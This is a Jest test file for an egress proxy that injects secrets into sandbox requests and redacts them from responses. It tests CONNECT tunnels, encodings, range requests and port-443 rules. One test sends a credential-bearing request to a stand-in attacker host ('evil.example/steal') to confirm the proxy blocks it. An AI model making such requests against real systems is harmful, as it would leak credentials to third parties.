/**
 * The egress proxy's edges with a host that has a secret, with Node clients on a channel's socket
 * and servers on 127.0.0.1 reached by pinned names: plain HTTP inside a CONNECT (what Node's
 * fetch sends through a proxy for http:// URLs) is served like forwarded HTTP, the request sent
 * with the CONNECT or after its 200; a response whose Transfer-Encoding names a coding other than
 * chunked is a 502 (its body could not be checked); an empty body labelled gzip, deflate or br
 * is an empty body, not a cut connection; a range request asks upstream for identity.
 */
import { randomBytes } from 'node:crypto';
import { promises as fs } from 'node:fs';
import * as http from 'node:http';
import * as net from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import tlsModule, * as tls from 'node:tls';
import * as zlib from 'node:zlib';
import { fileSecretBackend } from '../../executor/secrets/backends';
import { SecretService, startSecretService } from '../../executor/secrets/service';
import { createSecretStore } from '../../executor/secrets/store';
import { loadConfig } from '../../shared/config';
import { createLogger } from '../../shared/log';
import { connectTunnel, Harness, readAll, startHarness } from '../egress/harness';
import { describeIf } from '../helpers/availability';
import { collect, Got, listen, Origins, startOrigins } from './origins';

const KEY = randomBytes(32).toString('hex');
const TOKEN = 'ghs_' + randomBytes(20).toString('hex');
const bearer = { authorization: 'Bearer {{secret:GH_TOKEN}}' };

interface Seen {
  url: string;
  headers: http.IncomingHttpHeaders;
}
const seen: Seen[] = [];

/** /echo: the Authorization echoed; /empty-CODING: nothing, labelled; /range: a 206 of the echo's bytes 20-29 when asked for a range. */
function handler(req: http.IncomingMessage, res: http.ServerResponse): void {
  seen.push({ url: req.url ?? '', headers: req.headers });
  const echo = JSON.stringify({ authorization: req.headers.authorization ?? null });
  const empty = /^\/empty-(.+)$/.exec(decodeURIComponent(req.url ?? ''));
  if (empty) return void res.writeHead(200, { 'content-encoding': empty[1] }).end();
  if (req.url === '/range' && req.headers.range) return void res.writeHead(206, { 'content-range': `bytes 20-29/${echo.length}` }).end(echo.slice(20, 30));
  res.writeHead(200, { 'content-type': 'application/json', 'x-seen': String(req.headers.authorization ?? '') }).end(echo);
}

/** A raw origin: writes `/path`'s canned response (with the credential it got) and closes. */
function rawOrigin(): net.Server {
  return net.createServer((socket) => {
    let got = '';
    socket.on('data', (c: Buffer) => {
      got += c.toString('latin1');
      if (!got.includes('\r\n\r\n')) return;
      const url = /^[A-Z]+ (\S+)/.exec(got)?.[1] ?? '';
      const auth = /\r\nauthorization: ([^\r]*)/i.exec(got)?.[1] ?? '';
      const body = zlib.gzipSync(`{"authorization":"${auth}"}`);
      const chunked = Buffer.concat([Buffer.from(`${body.length.toString(16)}\r\n`), body, Buffer.from('\r\n0\r\n\r\n')]);
      if (url === '/te-gzip')
        socket.end(Buffer.concat([Buffer.from('HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\nConnection: close\r\n\r\n'), chunked]));
      else if (url === '/empty-close') socket.end('HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nConnection: close\r\n\r\n');
      else socket.end('HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n');
    });
    socket.on('error', () => undefined);
  });
}

interface Text extends Omit<Got, 'body'> {
  body: string;
}

/** `collect` with the body as text. */
const collectText = async (req: http.ClientRequest): Promise<Text> => {
  const got = await collect(req);
  return { ...got, body: got.body.toString() };
};

let h: Harness;
let dir: string;
let service: SecretService;
let origins: Origins;
let raw: net.Server;
let plainPort: number;
let rawPort: number;
let socketPath: string;
let clientTls: tls.SecureContext;
let hosts: string;
/** A host on port 443 (127.0.0.7, needs root to listen), and every byte it received. */
const ROOT = process.getuid?.() === 0;
let port443: net.Server | undefined;
const got443: Buffer[] = [];
const pins = { 'api.git.test': '127.0.0.1', 'other.test': '127.0.0.1', 'port443.test': '127.0.0.7' };

beforeAll(async () => {
  dir = await fs.mkdtemp(path.join(os.tmpdir(), 'tg-secrets-edges-'));
  origins = await startOrigins(dir, handler);
  plainPort = origins.plainPort;
  raw = rawOrigin();
  rawPort = await listen(raw);
  const data = path.join(dir, 'data');
  if (ROOT) {
    port443 = net.createServer((socket) => {
      socket.on('error', () => undefined);
      socket.on('data', (c: Buffer) => got443.push(c) && socket.end('HTTP/1.1 200 OK\r\ncontent-length: 0\r\nconnection: close\r\n\r\n'));
    });
    await new Promise<void>((r) => port443?.listen(443, '127.0.0.7', r));
  }
  // A rule without a port (port443.test) covers 80 and 443.
  hosts = [...[origins.tlsPort, plainPort, rawPort].map((p) => `api.git.test:${p}`), 'port443.test'].join(',');
  await createSecretStore(fileSecretBackend(data), KEY).set('alice', { name: 'GH_TOKEN', host: hosts, value: TOKEN });
  service = await startSecretService({
    config: loadConfig({ TOOLGATE_DATA_DIR: data, TOOLGATE_SECRETS_KEY: KEY, TOOLGATE_EGRESS_CA_FILE: origins.ca.certFile }),
    log: createLogger('silent', 'test', 'json'),
    onUse: () => undefined,
  });
  h = await startHarness({ pins, secrets: service.egress });
  await h.store.set('alice', { allow: `${hosts},other.test:${plainPort}` });
  socketPath = (await h.channel('alice')).socketPath;
  clientTls = tls.createSecureContext({ ca: await fs.readFile(service.caCertFile as string) });
});

afterAll(async () => {
  await h.close();
  await service.close();
  await origins.close();
  await new Promise((r) => raw.close(r));
  if (port443) await new Promise((r) => port443?.close(r));
  await fs.rm(dir, { recursive: true, force: true });
});

beforeEach(() => {
  seen.length = 0;
  got443.length = 0;
});

/** GET http://host:port/path through the proxy in absolute form (forward HTTP). */
function viaForward(port: number, urlPath: string, headers: Record<string, string>): Promise<Text> {
  const url = `http://api.git.test:${port}${urlPath}`;
  return collectText(http.request({ socketPath, path: url, headers: { host: `api.git.test:${port}`, ...headers }, agent: false }));
}

/** GET /path in the clear inside CONNECT api.git.test:port, sent after the 200 (as Node's fetch does). */
async function viaPlainConnect(port: number, urlPath: string, headers: Record<string, string>): Promise<Text> {
  const tunnel = await connectTunnel(socketPath, `api.git.test:${port}`);
  if (!('socket' in tunnel)) throw new Error(`CONNECT answered ${tunnel.status}`);
  return collectText(http.request({ createConnection: () => tunnel.socket, path: urlPath, headers: { host: `api.git.test:${port}`, ...headers } }));
}

type Get = (port: number, urlPath: string, headers: Record<string, string>) => Promise<Text>;
const paths: Array<[string, Get]> = [
  ['forward HTTP', viaForward],
  ['plain HTTP inside CONNECT', viaPlainConnect],
];

describe('plain HTTP inside a CONNECT to a host with a secret', () => {
  it('the server gets the value; the client sees [secret:NAME] in the body and headers', async () => {
    const got = await viaPlainConnect(plainPort, '/echo', bearer);
    expect([got.status, got.error]).toEqual([200, undefined]);
    expect(seen.map((s) => [s.url, s.headers.authorization, s.headers.host])).toEqual([['/echo', `Bearer ${TOKEN}`, `api.git.test:${plainPort}`]]);
    expect(JSON.parse(got.body)).toEqual({ authorization: 'Bearer [secret:GH_TOKEN]' });
    expect(got.headers['x-seen']).toBe('Bearer [secret:GH_TOKEN]');
    expect(JSON.stringify(got)).not.toContain(TOKEN);
  });

  it('a request sent with the CONNECT (before its 200) is served too, and keep-alive requests each go upstream', async () => {
    const socket = net.connect(socketPath);
    const get = `GET /echo HTTP/1.1\r\nhost: api.git.test:${plainPort}\r\nauthorization: Bearer {{secret:GH_TOKEN}}\r\n\r\n`;
    socket.write(
      `CONNECT api.git.test:${plainPort} HTTP/1.1\r\nhost: api.git.test:${plainPort}\r\n\r\n${get}${get.replace('\r\n\r\n', '\r\nconnection: close\r\n\r\n')}`,
    );
    const all = await readAll(socket);
    expect(all.startsWith('HTTP/1.1 200 Connection Established\r\n\r\nHTTP/1.1 200 OK\r\n')).toBe(true);
    // Two answers, each with the echo redacted (its body in chunks: the redaction holds a tail back).
    expect(all.match(/\r\nHTTP\/1\.1 200 OK\r\n/g)?.length).toBe(2);
    expect(all.match(/x-seen: Bearer \[secret:GH_TOKEN\]\r\n/g)?.length).toBe(2);
    expect(all.match(/Bearer \[secret:GH_TOKEN\]"\}\r\n0\r\n\r\n/g)?.length).toBe(2);
    expect(all).not.toContain(TOKEN);
    expect(seen.map((s) => s.headers.authorization)).toEqual([`Bearer ${TOKEN}`, `Bearer ${TOKEN}`]);
  });

  it('a tunnel closed before any byte releases its connection; the next CONNECT works', async () => {
    const tunnel = await connectTunnel(socketPath, `api.git.test:${plainPort}`);
    if (!('socket' in tunnel)) throw new Error(`CONNECT answered ${tunnel.status}`);
    tunnel.socket.end();
    await new Promise((r) => tunnel.socket.once('close', r));
    const got = await viaPlainConnect(plainPort, '/echo', bearer);
    expect(got.status).toBe(200);
  });
});

describe.each(paths)('a host with a secret, %s', (_name, get) => {
  it('a response with Transfer-Encoding gzip, chunked is a 502 with the reason, and none of its bytes', async () => {
    const got = await get(rawPort, '/te-gzip', bearer);
    expect(got.status).toBe(502);
    expect(got.body).toBe(`toolgate egress: api.git.test:${rawPort} answered with transfer-encoding gzip, chunked, which the proxy cannot check for secrets\n`);
  });

  it.each(['gzip', 'deflate', 'br', 'deflate, gzip'])('an empty chunked body labelled %s arrives as an empty body', async (coding) => {
    const got = await get(plainPort, `/empty-${encodeURIComponent(coding)}`, bearer);
    expect([got.status, got.body, got.error]).toEqual([200, '', undefined]);
    expect(got.headers['content-encoding']).toBeUndefined();
  });

  it('an empty close-delimited body labelled gzip arrives as an empty body', async () => {
    const got = await get(rawPort, '/empty-close', bearer);
    expect([got.status, got.body, got.error]).toEqual([200, '', undefined]);
  });

  it('a range request goes upstream without Range and If-Range; the client gets the whole body, redacted', async () => {
    // Windows cut through an echoed value would pass redaction, which finds whole values only.
    const got = await get(plainPort, '/range', { ...bearer, range: 'bytes=20-29', 'if-range': '"1"', 'accept-encoding': 'gzip, br' });
    expect(seen[0]?.headers.range).toBeUndefined();
    expect(seen[0]?.headers['if-range']).toBeUndefined();
    expect(seen[0]?.headers.authorization).toBe(`Bearer ${TOKEN}`);
    expect(got.status).toBe(200);
    expect(got.body).toBe('{"authorization":"Bearer [secret:GH_TOKEN]"}');
  });
});

const until = async (check: () => boolean) => {
  for (let i = 0; i < 100 && !check(); i++) await new Promise((r) => setTimeout(r, 10));
};

/** The socket a sandbox speaks through inside CONNECT api.git.test:port: the tunnel itself, or TLS in it. */
async function inTunnel(port: number, secure: boolean, channel = socketPath): Promise<net.Socket> {
  const tunnel = await connectTunnel(channel, `api.git.test:${port}`);
  if (!('socket' in tunnel)) throw new Error(`CONNECT answered ${tunnel.status}`);
  return secure ? tls.connect({ socket: tunnel.socket, servername: 'api.git.test', secureContext: clientTls }) : tunnel.socket;
}

/** `request` (its head, `connection: close` added) written raw inside a tunnel; all the answer. */
async function rawInTunnel(port: number, secure: boolean, request: string): Promise<string> {
  const socket = await inTunnel(port, secure);
  socket.write(`${request}authorization: Bearer {{secret:GH_TOKEN}}\r\nconnection: close\r\n\r\n`);
  return readAll(socket);
}

describe.each([
  ['plain HTTP', false, 'http', () => plainPort],
  ['TLS', true, 'https', () => origins.tlsPort],
])('a request in an intercepted CONNECT (%s) goes only to the host the CONNECT named', (_name, secure, scheme, port) => {
  it('an absolute URI naming another host is a 400, and nothing is sent', async () => {
    const all = await rawInTunnel(port(), secure, `GET ${scheme}://evil.example/steal HTTP/1.1\r\nhost: evil.example\r\n`);
    const line = `toolgate egress: this tunnel goes to api.git.test:${port()}: send its requests as /path or ${scheme}://api.git.test:${port()}/path\n`;
    expect(all).toMatch(/^HTTP\/1\.1 400 Bad Request\r\n/);
    expect(all.endsWith(`\r\n\r\n${line}`)).toBe(true);
    expect(seen).toEqual([]);
  });

  it.each([
    ['another port', (p: number) => `${scheme}://api.git.test:${p + 1}/echo`],
    ['the other scheme', (p: number) => `${scheme === 'http' ? 'https' : 'http'}://api.git.test:${p}/echo`],
  ])('an absolute URI naming %s is a 400', async (_what, uri) => {
    const all = await rawInTunnel(port(), secure, `GET ${uri(port())} HTTP/1.1\r\nhost: api.git.test:${port()}\r\n`);
    expect(all).toMatch(/^HTTP\/1\.1 400 Bad Request\r\n/);
    expect(seen).toEqual([]);
  });

  it.each([
    ['/echo?x=1', 'evil.example'],
    [`${scheme}://api.git.test:PORT/echo?x=1`, 'evil.example'],
    [`${scheme}://API.git.test.:PORT/echo?x=1`, `api.git.test:PORT`],
  ])("%s with Host %s goes upstream as origin form with the CONNECT's Host", async (target, host) => {
    const fill = (t: string) => t.replace('PORT', String(port()));
    const all = await rawInTunnel(port(), secure, `GET ${fill(target)} HTTP/1.1\r\nhost: ${fill(host)}\r\n`);
    expect(all).toMatch(/^HTTP\/1\.1 200 OK\r\n/);
    expect(seen.map((s) => [s.url, s.headers.host, s.headers.authorization])).toEqual([['/echo?x=1', `api.git.test:${port()}`, `Bearer ${TOKEN}`]]);
  });
});

describe('a client that goes while the proxy sets up its CONNECT', () => {
  it('gives its connection slot back: after 20 such clients (the limit 2), a CONNECT still works', async () => {
    // A leaf takes a moment to make (the first for a host does): the client goes during that await.
    const egress = service.egress as NonNullable<SecretService['egress']>;
    const slowLeaf = { ...egress, serverContext: (host: string) => new Promise((r) => setTimeout(r, 30)).then(() => egress.serverContext(host)) };
    const limited = await startHarness({ limits: { maxConnections: 2 }, pins, secrets: slowLeaf });
    try {
      await limited.store.set('alice', { allow: `${hosts},other.test:${plainPort}` });
      const channel = (await limited.channel('alice')).socketPath;
      for (let i = 0; i < 20; i++) {
        // A reset on a Unix socket: closed with an answer it never read, its peer's next read fails
        // (ECONNRESET) at once, while the proxy awaits its lookups for the CONNECT.
        const client = net.connect(channel).pause();
        client.on('error', () => undefined);
        client.write(`GET http://other.test:${plainPort}/first HTTP/1.1\r\nhost: other.test:${plainPort}\r\n\r\n`);
        await until(() => seen.some((s) => s.url === '/first'));
        await new Promise((r) => setTimeout(r, 10));
        await new Promise((r) => client.write(`CONNECT api.git.test:${origins.tlsPort} HTTP/1.1\r\nhost: api.git.test\r\n\r\n`, r));
        await new Promise((r) => setTimeout(r, 5));
        client.destroy();
        await new Promise((r) => client.once('close', r));
        seen.length = 0;
      }
      // The proxy hears of each going a moment later: give it that moment, no more.
      let status = 0;
      for (let i = 0; i < 50 && status !== 200; i++) {
        const tunnel = await connectTunnel(channel, `api.git.test:${origins.tlsPort}`);
        status = tunnel.status;
        if ('socket' in tunnel) tunnel.socket.destroy();
        else await new Promise((r) => setTimeout(r, 20));
      }
      expect(status).toBe(200);
      const socket = await inTunnel(origins.tlsPort, true, channel);
      socket.write('GET /echo HTTP/1.1\r\nhost: api.git.test\r\nconnection: close\r\n\r\n');
      expect(await readAll(socket)).toMatch(/^HTTP\/1\.1 200 OK\r\n/);
    } finally {
      await limited.close();
    }
  });
});

describeIf(ROOT, 'listening on 127.0.0.7:443 needs root', 'a secret goes to port 443 only over TLS', () => {
  const line = 'toolgate egress: refused port443.test:443: a secret is sent to port 443 only over TLS\n';

  it('forward HTTP to a host with a secret on port 443 is a 403, and nothing reaches the host', async () => {
    const url = 'http://port443.test:443/echo';
    const got = await collectText(http.request({ socketPath, path: url, headers: { host: 'port443.test:443', ...bearer }, agent: false }));
    expect([got.status, got.body]).toEqual([403, line]);
    expect(got443).toEqual([]);
  });

  it('plain HTTP inside a CONNECT to port 443 is answered with a 403 and closed, and nothing reaches the host', async () => {
    const tunnel = await connectTunnel(socketPath, 'port443.test:443');
    if (!('socket' in tunnel)) throw new Error(`CONNECT answered ${tunnel.status}`);
    tunnel.socket.write('GET /echo HTTP/1.1\r\nhost: port443.test\r\nauthorization: Bearer {{secret:GH_TOKEN}}\r\n\r\n');
    const all = await readAll(tunnel.socket);
    expect(all).toMatch(/^HTTP\/1\.1 403 Forbidden\r\n/);
    expect(all.endsWith(`\r\n\r\n${line}`)).toBe(true);
    expect(got443).toEqual([]);
  });
});

it('intercepted HTTPS verifies the real host with one TLS context made at start, none per request', async () => {
  expect(service.egress?.upstreamTls).toBeDefined();
  await rawInTunnel(origins.tlsPort, true, 'GET /echo HTTP/1.1\r\nhost: api.git.test\r\n');
  const made = jest.spyOn(tlsModule, 'createSecureContext');
  try {
    for (let i = 0; i < 3; i++)
      expect(await rawInTunnel(origins.tlsPort, true, 'GET /echo HTTP/1.1\r\nhost: api.git.test\r\n')).toMatch(/^HTTP\/1\.1 200 OK\r\n/);
    expect(made).not.toHaveBeenCalled();
  } finally {
    made.mockRestore();
  }
});
